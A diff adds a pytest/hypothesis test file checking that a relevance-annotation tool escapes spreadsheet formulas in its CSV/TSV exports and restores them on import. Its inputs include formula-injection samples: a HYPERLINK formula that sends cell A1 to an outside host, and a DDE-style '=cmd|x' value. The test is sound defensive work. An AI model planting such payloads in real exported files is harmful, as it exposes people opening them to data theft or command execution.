@@ -1,0 +1,118 @@
+"""Text that a spreadsheet would take for a formula: apostrophes out, the same text in."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+from uuid import uuid4
+
+import pandas as pd
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from collection import Campaign, Judgement, formats
+from collection.formats import spreadsheet
+from collection.records import Preference
+from tests.helpers import ok
+
+FORMULAS = ('=HYPERLINK("http://x.org?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'@x")
+HARMLESS = ("", "'", "''", "'t Hooft", "a=b", "1-2", "ann@x.org", " =1", "\u2212 5")
+
+texts = st.text(st.sampled_from("'=+-@\t\r\nab \uff1d"), max_size=8) | st.text(max_size=8)
+
+
+@given(texts)
+@example("'")
+def test_what_is_escaped_is_restored_and_no_formula(text: str) -> None:
+    cell = spreadsheet.escaped(text)
+    assert spreadsheet.restored(cell) == text
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+
+
+@given(texts, texts)
+def test_two_texts_never_become_one(one: str, other: str) -> None:
+    assert (spreadsheet.escaped(one) == spreadsheet.escaped(other)) == (one == other)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_text_is_written_as_it_is(text: str) -> None:
+    assert spreadsheet.escaped(text) == spreadsheet.restored(text) == text
+
+
+@pytest.mark.parametrize("value", [-1, -0.5, None, True, float("-inf")])
+def test_what_is_no_text_is_written_as_it_is(value: Any) -> None:
+    assert spreadsheet.escaped(value) is value
+
+
+names = texts.filter(lambda name: bool(name) and name == name.strip() and name.isprintable())
+ids = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zs", "Zl", "Zp")), min_size=1, max_size=6)
+
+
+@pytest.mark.parametrize("name", ["labels.csv", "labels.tsv", "labels.csv.gz"])
+@given(rows=st.lists(st.tuples(names, ids, ids), max_size=6, min_size=1, unique=True))
+@example(rows=[(text, "=1", "-d") for text in FORMULAS if text.isprintable()])
+def test_labels_are_read_back(tmp_path_factory: pytest.TempPathFactory, name: str, rows: Any) -> None:
+    path = tmp_path_factory.getbasetemp() / name
+    frame = pd.DataFrame(rows, columns=["annotator", "query_id", "doc_id"]).assign(relevance=-1)
+    formats.write_labels(frame, path)
+    found = formats.read_labels(path)
+    assert list(found.itertuples(index=False, name=None)) == list(frame.itertuples(index=False, name=None))
+
+
+@given(annotators=st.lists(names, min_size=1, max_size=4), places=st.tuples(ids, ids).filter(lambda p: p[0] != p[1]))
+def test_preferences_are_read_back(tmp_path_factory: pytest.TempPathFactory, annotators: Any, places: Any) -> None:
+    path = tmp_path_factory.getbasetemp() / "preferences.csv"
+    blank = dict.fromkeys(Preference._fields)
+    rows = [
+        blank | {"uuid": str(n), "annotator": name, "query_id": "=q", "kind": "left", "left": left, "right": right}
+        for n, name in enumerate(annotators)
+        for left, right in [places]
+    ]
+    formats.write_preferences(pd.DataFrame(rows), path)
+    found = formats.read_preferences(path)
+    assert found["annotator"].tolist() == annotators
+    assert found["query_id"].tolist() == ["=q"] * len(annotators)
+    assert set(zip(found["left"], found["right"], strict=True)) == {places}
+
+
+def cells(text: str, separator: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+
+
+def test_no_file_for_spreadsheets_has_a_formula(
+    make_campaign: Callable[..., Campaign], files: Path, tmp_path: Path
+) -> None:
+    (files / "documents.tsv").write_text("-d1\ttext\n=d2\ttext\n")
+    (files / "odd.run").write_text("1 Q0 -d1 1 2.0 =cmd|x\n1 Q0 =d2 2 1.0 =cmd|x\n")
+    campaign = make_campaign("odd")
+    campaign.import_files(documents=[files / "documents.tsv"], runs=[files / "odd.run"])
+    said = [
+        Judgement(str(uuid4()), name, "1", doc, "graded", 1, note=note)
+        for name, note in (("=ann", "=1+1"), ("-ben", "'=quoted"))
+        for doc in ("-d1", "=d2")
+    ]
+    assert not campaign.judge(said).refused
+    campaign.export(judgements=tmp_path / "log.csv", labels=tmp_path / "labels.csv", qrels=tmp_path / "q.txt")
+    header, *rows = cells((tmp_path / "log.csv").read_text(), ",")
+    log = pd.DataFrame(rows, columns=header)
+    assert log["doc_id"].tolist() == ["-d1", "=d2"] * 2
+    assert log["note"].tolist() == ["'=1+1", "'=1+1", "''=quoted", "''=quoted"]
+    assert {row[0] for row in cells((tmp_path / "labels.csv").read_text(), ",")} == {"annotator", "'=ann", "'-ben"}
+    campaign.export(judgements=tmp_path / "log.jsonl")
+    assert '"note": "=1+1"' in (tmp_path / "log.jsonl").read_text()
+    other = make_campaign("other")
+    other.import_files(documents=[files / "documents.tsv"], labels=tmp_path / "log.csv")
+    assert set(other.judgements()["annotator"]) == {"=ann", "-ben"}
+    other.export(qrels=tmp_path / "again.txt")
+    assert (tmp_path / "again.txt").read_bytes() == (tmp_path / "q.txt").read_bytes()
+    assert "=cmd|x" in ok("evaluate", tmp_path / "q.txt", files / "odd.run", "--format", "tsv")
+    values = cells(ok("evaluate", tmp_path / "q.txt", files / "odd.run", "-m", "AP", "--format", "csv"), ",")
+    assert {row[0] for row in values} == {"run", "'=cmd|x"}
+    runs = (files / "odd.run", files / "a.run")
+    compared = cells(ok("compare", tmp_path / "q.txt", *runs, "-m", "AP", "--format", "tsv"), "\t")
+    assert not [cell for row in compared[1:] for cell in row if cell.startswith("=")]
+    assert any("'=cmd|x" in row for row in compared)
